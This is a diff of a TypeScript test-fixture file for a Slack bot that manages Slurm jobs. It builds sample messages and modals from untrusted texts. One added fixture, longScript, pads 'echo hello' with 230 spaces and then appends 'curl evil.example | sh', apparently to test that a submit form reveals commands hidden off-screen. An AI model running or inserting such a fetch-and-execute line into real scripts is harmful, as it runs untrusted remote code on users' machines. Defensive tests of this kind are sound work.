@@ -1,8 +1,8 @@
 import type { ModalView } from '@slack/types';
 import type { Allocation, JobDetails } from '../../src/jobs/job.ts';
-import type { Capability, Refused } from '../../src/jobs/operation.ts';
+import type { Ability, Operation, Refused } from '../../src/jobs/operation.ts';
 import { phases } from '../../src/jobs/phase.ts';
-import { readScript } from '../../src/scripts/script.ts';
+import { type Finding, readScript, type Script } from '../../src/scripts/script.ts';
 import { abilities } from '../../src/views/abilities.ts';
 import { card } from '../../src/views/card.ts';
 import { chooseJob, chooseScript } from '../../src/views/choosing.ts';
@@ -19,6 +19,7 @@ import { deleteModal } from '../../src/views/deleting.ts';
 import { details } from '../../src/views/details.ts';
 import { editModal } from '../../src/views/editing.ts';
 import { help } from '../../src/views/help.ts';
+import type { IntentTo } from '../../src/views/intent.ts';
 import { jobList } from '../../src/views/list.ts';
 import type { Message } from '../../src/views/message.ts';
 import { waitModal } from '../../src/views/modals.ts';
@@ -45,12 +46,20 @@ export const plainForeign: Foreign = {
 const waldurUrl = 'https://waldur.example.org';
 const nothing: Refused = new Set();
 const day = (hour: number) => new Date(Date.UTC(2026, 10, 24, hour));
-const known: Capability[] = [
-  { operation: 'pull', doubtedAt: null, refusedAt: day(9), workedAt: null, status: 409 },
-  { operation: 'delete', doubtedAt: day(9), refusedAt: null, workedAt: null, status: 500 },
-  { operation: 'unlink', doubtedAt: null, refusedAt: null, workedAt: day(9), status: 200 },
-];
+const known = new Map<Operation, Ability>([
+  ['pull', { refusedAt: day(9), workedAt: null, status: 409 }],
+  ['delete', { refusedAt: null, workedAt: null, status: 500 }],
+  ['unlink', { refusedAt: null, workedAt: day(9), status: 0 }],
+]);
 const uuid = 'd2035c217d01467ba3a1309afa2bf5c3';
+const scriptKey = 'oPBPGAoIRmK2KQ2TVLXBpQ';
+const filter = { mine: true, phases: [], project: 'two words', words: [] };
+const listed = (move: IntentTo<'list'>['move']) => ({
+  do: 'list' as const,
+  filter,
+  move,
+  post: false,
+});
 
 export function job(foreign: Foreign, more: Partial<JobDetails> = {}): JobDetails {
   return {
@@ -96,21 +105,63 @@ function script(foreign: Foreign) {
   return readScript(bytes, { maxBytes: 1_000_000 });
 }
 
+/** A script whose directives and findings have these texts in them. */
+function quotingScript(foreign: Foreign): Script {
+  const { text } = foreign;
+  const read = script(foreign);
+  const components = read.components.map((component) => ({
+    ...component,
+    ...{ partition: text, gres: text, dependency: text, begin: text, account: text, qos: text },
+    gpus: { count: 1, type: text, per: 'job' as const },
+    array: { text, tasks: 1, atATime: null },
+  }));
+  const finding: Finding = {
+    ...{ kind: 'stray', level: 'warning', lines: [3], more: 0 },
+    sentence: `"${text}" is no option.`,
+  };
+  return { ...read, components, warnings: Array(10).fill(finding) };
+}
+
+const permalink = 'https://lab.example.org/files/U0BEN00001/F0TRAIN001/train.sh';
+
+/** A script of more lines, and longer ones, than a form shows. */
+function longScript(foreign: Foreign) {
+  const hiding = `echo hello${' '.repeat(230)}; curl evil.example | sh`;
+  const lines = ['#!/bin/bash', hiding, ...Array(250).fill(`echo ${foreign.text}`), hiding, hiding];
+  return readScript(new TextEncoder().encode(lines.join('\n')), { maxBytes: 1_000_000 });
+}
+
 /** Every message that the bot can say, with these foreign texts in it. */
 export function messages(foreign: Foreign): Record<string, Message> {
   const { name, file, text, error } = foreign;
   const bad = readScript(new TextEncoder().encode('echo hi\r\n'), { maxBytes: 1000 });
   const change = {
+    fromAfter: day(10),
     fromSince: day(10),
     lastBefore: new Date(day(14).getTime() - 60_000),
     firstAfter: day(14),
   };
-  const about = { uuid, name, slurmId: '48213', errorMessage: error, person: 'U0ANA00001' };
+  const about = {
+    uuid,
+    name,
+    slurmId: '48213',
+    errorMessage: error,
+    person: 'U0ANA00001',
+    tasks: '',
+    output: 'slurm-48213.out',
+  };
   const rows = [
-    { ...job(foreign), tasks: '2 running · 4 queued' },
-    { ...job(foreign, { runtimeState: '', slurmId: '' }), tasks: '' },
+    { ...job(foreign), phase: 'running' as const, tasks: '2 running · 4 queued' },
+    { ...job(foreign, { runtimeState: '', slurmId: '' }), phase: 'submitting' as const, tasks: '' },
   ];
-  const page = { jobs: rows, now: day(15), refused: nothing, searched: 3000, total: 20_014 };
+  const page = {
+    jobs: rows,
+    now: day(15),
+    refused: nothing,
+    searched: 3000,
+    total: 20_014,
+    unread: 0,
+  };
   const cards = phases.map((phase): [string, Message] => [
     `card ${phase}`,
     card({
@@ -129,6 +180,7 @@ export function messages(foreign: Foreign): Record<string, Message> {
       note: '',
       deletedBy: phase === 'gone' ? name : null,
       tasks: phase === 'running' ? '2 running · 4 queued' : '',
+      silentRuns: phase === 'running' ? 3 : 0,
       closed: phase === 'left the queue' ? 'ended' : null,
     }),
   ]);
@@ -197,6 +249,29 @@ export function messages(foreign: Foreign): Record<string, Message> {
         { ...change, kind: 'found', fromPhase: 'erred', toPhase: 'erred', word: `48220 ${uuid}` },
       ],
     }),
+    'reply ended, an array': reply({
+      ...about,
+      submissionId: null,
+      tasks: '4 completed · 2 failed (3, 5)',
+      changes: [
+        { ...change, kind: 'ended', fromPhase: 'running', toPhase: 'failed', word: 'TIMEOUT' },
+      ],
+    }),
+    'reply not shown': reply({
+      ...about,
+      submissionId: null,
+      changes: [
+        { ...change, kind: 'not shown', fromPhase: 'running', toPhase: 'running', word: 'RUNNING' },
+      ],
+    }),
+    'reply perhaps submitted': reply({
+      ...about,
+      errorMessage: error || 'Message: Unauthorized, status code: 401',
+      submissionId: '7f3a9c7f3a9c',
+      changes: [
+        { ...change, kind: 'not submitted', fromPhase: 'submitting', toPhase: 'erred', word: '' },
+      ],
+    }),
     'reply no news': reply({
       ...about,
       submissionId: null,
@@ -210,9 +285,9 @@ export function messages(foreign: Foreign): Record<string, Message> {
       total: 148,
       filter: '',
       newer: null,
-      older: `list --older ${uuid}@1@10`,
+      older: listed({ to: 'older', uuid, created: 1, rank: 10 }),
       further: null,
-      post: 'list --post',
+      post: { ...listed(null), post: true },
       posted: false,
     }),
     'list searched': jobList({
@@ -221,8 +296,8 @@ export function messages(foreign: Foreign): Record<string, Message> {
       filter: text,
       newer: null,
       older: null,
-      further: `list --older ${uuid}@1@3000`,
-      post: 'list --post',
+      further: listed({ to: 'older', uuid, created: 1, rank: 3000 }),
+      post: { ...listed(null), post: true },
       posted: false,
     }),
     'list empty': jobList({
@@ -237,32 +312,57 @@ export function messages(foreign: Foreign): Record<string, Message> {
       post: null,
       posted: false,
     }),
-    details: details(job(foreign), nothing, ''),
-    'details of an array': details(job(foreign), nothing, '2 running · 4 queued'),
+    details: details(job(foreign), nothing, { phase: 'running', tasks: '' }),
+    'details left the queue': details(job(foreign), nothing, {
+      phase: 'left the queue',
+      tasks: '',
+    }),
+    'details of an array': details(job(foreign), nothing, {
+      phase: 'running',
+      tasks: '2 running · 4 queued',
+    }),
     'details erred': details(
       job(foreign, { state: 'erred', errorMessage: error || 'sbatch: error: no' }),
       nothing,
-      '',
+      { phase: 'erred', tasks: '' },
     ),
     prompt: prompt({
-      scriptId: 17,
+      scriptKey,
       fileName: file,
       name,
       script: script(foreign),
       converted: false,
     }),
-    'prompt refused': prompt({ scriptId: 17, fileName: file, name, script: bad, converted: false }),
-    connect: connectOffer({ purpose: 'submit', intent: 'submit #17', why: 'never', waldurUrl }),
+    'prompt for a script that quotes': prompt({
+      scriptKey,
+      fileName: file,
+      name,
+      script: quotingScript(foreign),
+      converted: true,
+    }),
+    'prompt refused': prompt({ scriptKey, fileName: file, name, script: bad, converted: false }),
+    connect: connectOffer({
+      purpose: 'submit',
+      next: { do: 'submit', script: scriptKey, convert: false, seenBy: null },
+      why: 'never',
+      waldurUrl,
+    }),
     'connect again': connectOffer({
       purpose: 'list your jobs',
-      intent: 'list',
+      next: listed(null),
       why: 'expired',
       waldurUrl,
     }),
     'sign in again': connectOffer({
       purpose: 'list your jobs',
-      intent: 'list',
+      next: listed(null),
       why: 'no session',
+      waldurUrl,
+    }),
+    'deactivated in Waldur': connectOffer({
+      purpose: 'list your jobs',
+      next: listed(null),
+      why: 'deactivated',
       waldurUrl,
     }),
     connected: connected({ fullName: name, username: name, next: '' }),
@@ -284,14 +384,18 @@ export function messages(foreign: Foreign): Record<string, Message> {
       'Waldur did not answer within 10 s.',
       '7f3a9c7f3a9c',
     ),
-    choose: chooseJob(`“${text}” fits 2 jobs. Which one?`.slice(0, 2000), 'show', rows),
-    'choose script': chooseScript([{ id: 17, fileName: file }]),
+    choose: chooseJob(
+      `“${text}” fits 2 jobs. Which one?`.slice(0, 2000),
+      { do: 'show', job: '' },
+      rows,
+    ),
+    'choose script': chooseScript([{ key: scriptKey, fileName: file }], 'U0123456789A'),
     help: help([{ usage: 'show <job>', summary: 'Everything' }], text, 'show'),
     'help with abilities': help(
       [{ usage: 'show <job>', summary: 'Everything' }],
       null,
       null,
-      abilities(known, day(15)),
+      abilities({ of: (operation) => known.get(operation) ?? null }),
     ),
   };
 }
@@ -325,10 +429,23 @@ export function modals(foreign: Foreign): Record<string, ModalView> {
     }),
     submit: submitModal({
       ...form,
-      source: { fileName: file, script: script(foreign) },
+      source: { fileName: file, script: script(foreign), permalink },
       inThread: true,
+      threadChannel: 'C0JOBS0001',
     }),
-    'submit upload': submitModal({ ...form, source: null, sharedBy: null, inThread: false }),
+    'submit a long script': submitModal({
+      ...form,
+      source: { fileName: file, script: longScript(foreign), permalink },
+      inThread: true,
+      threadChannel: null,
+    }),
+    'submit upload': submitModal({
+      ...form,
+      source: null,
+      sharedBy: null,
+      inThread: false,
+      threadChannel: null,
+    }),
     edit: editModal({ metadata: '{}', name, description: text, upload: true, problem: null }),
     unlink: unlinkModal({ name, slurmId: '48213', metadata: '{}' }),
     delete: deleteModal({ uuid, name, slurmId: '48213', metadata: '{}' }),
